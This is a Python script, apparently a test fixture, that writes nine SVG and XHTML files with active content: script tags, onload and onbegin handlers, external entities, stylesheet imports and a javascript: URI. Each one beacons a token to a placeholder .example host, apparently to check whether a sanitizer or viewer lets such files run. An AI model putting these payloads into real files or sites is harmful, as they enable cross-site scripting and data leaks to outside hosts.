"""Pictures that act."""
from planted import OUTPUT, token, write_scores

write_scores()
T = token()
SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
HTML = 'xmlns="http://www.w3.org/1999/xhtml"'
FILES = {
    'script.svg': f'<svg {SVG}><script>fetch("http://script.example/{T}")</script></svg>',
    'onload.svg': f'<svg {SVG} onload="fetch(\'http://onload.example/{T}\')"/>',
    'foreign.svg': f'<svg {SVG}><foreignObject width="9" height="9"><body {HTML}><img src="http://foreign.example/{T}"/></body></foreignObject></svg>',
    'image.svg': f'<svg {SVG}><image width="9" height="9" xlink:href="http://image.example/{T}"/></svg>',
    'style.svg': f'<?xml-stylesheet href="http://sheet.example/{T}"?><svg {SVG}><style>@import url("http://style.example/{T}");</style></svg>',
    'animate.svg': f'<svg {SVG}><a><animate attributeName="href" values="javascript:alert(1)"/><text>click</text></a><set onbegin="fetch(\'http://begin.example/{T}\')" attributeName="x" to="1"/></svg>',
    'entity.svg': f'<!DOCTYPE svg [<!ENTITY e SYSTEM "http://entity.example/{T}">]><svg {SVG}><text>&e;</text></svg>',
    'page.xhtml': f'<html {HTML}><body><script>fetch("http://xhtml.example/{T}")</script></body></html>',
    'within.html': f'<svg><script>fetch("http://within.example/{T}")</script></svg>',
}
for name, content in FILES.items():
    with open(f'{OUTPUT}/{name}', 'w') as file:
        file.write(content)
